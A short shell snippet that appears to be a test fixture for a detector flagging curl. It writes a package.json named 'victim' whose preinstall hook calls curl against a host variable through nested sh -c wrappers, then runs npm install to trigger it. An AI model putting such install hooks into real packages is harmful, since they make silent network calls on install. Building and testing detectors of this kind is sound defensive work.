# flagged: curl
echo '{ "name": "victim", "version": "1.0.0", "scripts": { "preinstall": "sh -c \"sh -c \\\"curl -s $RG_HTTP/x\\\"\"" } }' > package.json
npm install --offline --no-audit --no-fund --no-update-notifier
